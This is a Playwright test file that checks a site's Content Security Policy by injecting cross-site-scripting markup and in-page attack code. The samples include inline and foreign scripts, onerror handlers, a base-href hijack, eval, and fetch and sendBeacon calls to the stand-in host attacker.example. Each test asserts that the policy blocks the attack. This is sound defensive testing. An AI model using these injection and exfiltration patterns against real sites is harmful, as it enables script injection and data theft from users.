import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright/test";
import { untilLive } from "../site/quiet-page.ts";
import { routes } from "../site/routes.ts";
import { expect, test } from "./policed-page.ts";

/** Somebody else's address. Nothing listens there: what reaches it is answered by these tests. */
const foreign = "http://attacker.example";
const path = routes.contact.en;

/** Set by each attack that gets through. */
const isOwned = (page: Page) => page.evaluate(() => "owned" in window);

/** Answers for the foreign address, and notes what was asked of it. */
async function foreignRequests(page: Page): Promise<string[]> {
  const requests: string[] = [];
  await page.route(`${foreign}/**`, (route) => {
    requests.push(route.request().url());
    return route.fulfill({
      contentType: "text/javascript",
      headers: { "access-control-allow-origin": "*" },
      body: "window.owned = true",
    });
  });
  return requests;
}

/** Opens a page into whose stored markup somebody has put theirs; its headers are the server's. */
async function openWith(page: Page, markup: string, { withoutPolicy = false } = {}): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const { "content-encoding": _, "content-length": __, ...headers } = response.headers();
    let html = (await response.text()).replace("<main", `${markup}<main`);
    expect(html).toContain(markup);
    if (withoutPolicy) {
      delete headers["content-security-policy"];
      delete headers["integrity-policy"];
      html = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
    }
    await route.fulfill({ status: 200, headers, body: html });
  });
  await page.goto(path);
  await page.waitForLoadState("load");
}

/** Opens the page and lets code run in it that got in somehow; a task of its own, as the page's are. */
async function runInside(page: Page, attack: () => void): Promise<void> {
  await page.goto(path);
  await untilLive(page, path);
  // What the test's own connection evaluates is exempt from the policy; a timer's callback isn't.
  // A refusal may be an exception: what counts is what was noted, and what happened.
  await page.evaluate(
    `new Promise((done) => setTimeout(() => { try { (${attack})() } catch {} done() }))`,
  );
}

const inMarkup = {
  "an inline script": {
    markup: "<script>window.owned = true</script>",
    directive: "script-src-elem",
    blocked: "inline",
  },
  "an inline handler": {
    markup: '<img alt="" src="data:," onerror="window.owned = true">',
    directive: "script-src-attr",
    blocked: "inline",
  },
  "a foreign script": {
    markup: `<script src="${foreign}/script.js"></script>`,
    directive: "script-src-elem",
    blocked: `${foreign}/script.js`,
  },
  "a foreign module": {
    markup: `<script type="module" src="${foreign}/module.js"></script>`,
    directive: "script-src-elem",
    blocked: `${foreign}/module.js`,
  },
  "a script in a data address": {
    markup: '<script src="data:text/javascript,window.owned = true"></script>',
    directive: "script-src-elem",
    blocked: "data",
  },
  "an inline style": {
    markup: "<style>main { display: none }</style>",
    directive: "style-src-elem",
    blocked: "inline",
  },
  "a foreign style sheet": {
    markup: `<link rel="stylesheet" href="${foreign}/style.css">`,
    directive: "style-src-elem",
    blocked: `${foreign}/style.css`,
  },
  "a foreign frame": {
    markup: `<iframe src="${foreign}/frame"></iframe>`,
    directive: "frame-src",
    blocked: foreign,
  },
  "a plugin": {
    markup: `<object data="${foreign}/object"></object>`,
    directive: "object-src",
    blocked: foreign,
  },
  "a foreign picture": {
    markup: `<img alt="" src="${foreign}/pixel.png">`,
    directive: "img-src",
    blocked: `${foreign}/pixel.png`,
  },
  "another base of all addresses": {
    markup: `<base href="${foreign}/">`,
    directive: "base-uri",
    blocked: foreign,
  },
};

for (const [attack, { markup, directive, blocked }] of Object.entries(inMarkup)) {
  test(`${attack} in the markup is refused`, async ({ page, refusals, messages }) => {
    const requests = await foreignRequests(page);
    await openWith(page, markup);
    await expect
      .poll(() => refusals)
      .toContainEqual({
        directive,
        blocked: expect.stringMatching(`^${RegExp.escape(blocked)}/?$`),
      });
    expect(await isOwned(page)).toBe(false);
    expect(requests).toEqual([]);
    await expect(page.getByRole("main")).toBeVisible();
    messages.length = 0;
  });
}

test("a javascript: link in the markup does nothing", async ({ page, refusals, messages }) => {
  await openWith(page, '<a href="javascript:void (window.owned = true)">a fine offer</a>');
  await page.getByText("a fine offer").evaluate((link: HTMLElement) => link.click());
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  expect(refusals[0]?.directive).toMatch(/script-src-elem|require-trusted-types-for/);
  expect(await isOwned(page)).toBe(false);
  messages.length = 0;
});

test("a form in the markup sends nothing elsewhere", async ({ page, refusals, messages }) => {
  const requests = await foreignRequests(page);
  const form = `<form action="${foreign}/take" method="post"><input name="a" value="b"><button>Go</button></form>`;
  await openWith(page, form);
  await page.getByRole("button", { name: "Go" }).evaluate((button: HTMLElement) => button.click());
  await expect.poll(() => refusals.map(({ directive }) => directive)).toContain("form-action");
  expect(requests).toEqual([]);
  expect(new URL(page.url()).pathname).toBe(path);
  messages.length = 0;
});

const fromInside: Record<string, { attack: () => void; directive: RegExp }> = {
  "a text as code (eval)": {
    // biome-ignore lint/security/noGlobalEval: it is the attack.
    attack: () => eval("window.owned = true"),
    directive: /^(script-src|require-trusted-types-for)$/,
  },
  "a text as code (Function)": {
    attack: () => new Function("window.owned = true")(),
    directive: /^(script-src|require-trusted-types-for)$/,
  },
  "a text as code (a timer)": {
    attack: () => window.setTimeout("window.owned = true" as never, 0),
    directive: /^(script-src|require-trusted-types-for)$/,
  },
  "a script of its own": {
    attack: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.owned = true"));
      document.body.append(script);
    },
    directive: /^(script-src-elem|require-trusted-types-for)$/,
  },
  "markup with a handler": {
    attack: () => {
      document.body.innerHTML = '<img src="data:," onerror="window.owned = true">';
    },
    directive: /^require-trusted-types-for$/,
  },
  "a handler on an element": {
    attack: () => {
      document.body.setAttribute("onclick", "window.owned = true");
      document.body.click();
    },
    directive: /^(script-src-attr|require-trusted-types-for)$/,
  },
  "a policy of its own for markup": {
    attack: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object };
      };
      trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
      Object.assign(window, { owned: true });
    },
    directive: /^trusted-types$/,
  },
  "a call to somebody else": {
    attack: () => {
      fetch("http://attacker.example/take").then(() => Object.assign(window, { owned: true }));
    },
    directive: /^connect-src$/,
  },
  "a beacon to somebody else": {
    attack: () => navigator.sendBeacon("http://attacker.example/take", "words"),
    directive: /^connect-src$/,
  },
};

for (const [what, { attack, directive }] of Object.entries(fromInside)) {
  test(`code that got in can't run ${what}`, async ({ page, refusals, messages }) => {
    const requests = await foreignRequests(page);
    await runInside(page, attack);
    await expect
      .poll(() => refusals.map((refusal) => refusal.directive).join())
      .toMatch(new RegExp(directive.source.replace(/^\^|\$$/g, "")));
    expect(await isOwned(page)).toBe(false);
    expect(requests).toEqual([]);
    messages.length = 0;
  });
}

test("a page of somebody else's can't show this one in a frame", async ({
  page,
  messages,
  baseURL,
}) => {
  const bait = createServer((_request, response) => {
    response.setHeader("content-type", "text/html");
    response.end(`<!doctype html><title>bait</title><iframe src="${baseURL}${path}"></iframe>`);
  });
  await new Promise<void>((done) => bait.listen(0, "127.0.0.1", done));
  try {
    await page.goto(`http://127.0.0.1:${(bait.address() as AddressInfo).port}/`);
    await expect.poll(() => messages.join()).toMatch(/frame-ancestors|X-Frame-Options/);
    const [, framed] = page.frames();
    expect(await framed?.locator("main").count()).toBe(0);
  } finally {
    bait.close();
  }
  messages.length = 0;
});

for (const attack of ["an inline script", "an inline handler", "a foreign script"] as const) {
  test(`${attack} in the markup works where the policy is taken away`, async ({
    page,
    messages,
  }) => {
    await foreignRequests(page);
    await openWith(page, inMarkup[attack].markup, { withoutPolicy: true });
    await expect.poll(() => isOwned(page)).toBe(true);
    messages.length = 0;
  });
}
